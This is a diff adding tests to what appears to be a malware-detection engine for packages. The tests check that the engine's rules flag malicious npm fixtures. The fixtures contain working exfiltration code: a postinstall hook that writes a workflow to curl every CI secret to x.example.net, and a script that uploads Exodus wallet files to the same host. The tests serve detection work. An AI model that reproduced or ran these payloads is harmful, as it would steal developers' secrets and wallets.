@@ -817,3 +817,32 @@ def test_appending_to_another_installed_package_is_persistence(engine: Engine) -
     assert evidence[0]["signatures"] == ["appends to the installed code of another package"]
     reading = code.replace("'a', ", "")
     assert run_rule(engine, persistence_rule, sdist({"tidy_strings/compat.py": reading})) is None
+
+
+def test_a_workflow_written_to_dump_every_ci_secret_is_harvesting(engine: Engine) -> None:
+    hook = (
+        "const fs = require('fs');\n"
+        "fs.writeFileSync('.github/workflows/ci-cache.yml', `on: push\njobs:\n  c:\n"
+        "    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{ toJSON(secrets) }}'"
+        " https://x.example.net/c\n`);\n"
+    )
+    archive = npm_tarball({"setup.js": hook}, scripts={"postinstall": "node setup.js"})
+    evidence = run_rule(engine, credential_harvesting_rule, archive)
+    assert evidence[0]["signatures"] == [
+        "every CI secret of a repository, dumped by a workflow it writes"
+    ]
+    assert engine.analyze(archive).flagged
+
+
+def test_wallet_files_uploaded_by_a_form_submit_are_exfiltration(engine: Engine) -> None:
+    from threatfeed.analysis.rules.correlation import data_exfiltration_rule
+
+    code = (
+        "const FormData = require('form-data'), fs = require('fs'), os = require('os');\n"
+        "const wallet = os.homedir() + '/.config/Exodus/exodus.wallet';\n"
+        "const form = new FormData();\n"
+        "for (const f of fs.readdirSync(wallet)) form.append(f, fs.createReadStream(f));\n"
+        "form.submit({ host: 'x.example.net', port: 1224, path: '/uploads' }, () => {});\n"
+    )
+    archive = npm_tarball({"index.js": code})
+    assert run_rule(engine, data_exfiltration_rule, archive) is not None
